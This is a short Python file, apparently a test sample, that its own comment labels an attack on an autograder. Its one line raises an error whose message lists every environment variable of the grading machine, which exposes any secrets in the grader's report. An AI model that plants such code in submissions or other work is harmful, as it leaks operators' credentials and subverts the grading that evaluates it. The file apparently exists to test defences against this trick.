# ruff: noqa  (an attack on the grader, written as a student would: not project code)
# Reads the instructor's environment and puts it where the report shows it.
import os

raise RuntimeError(" ".join(f"{k}={v}" for k, v in sorted(os.environ.items())))
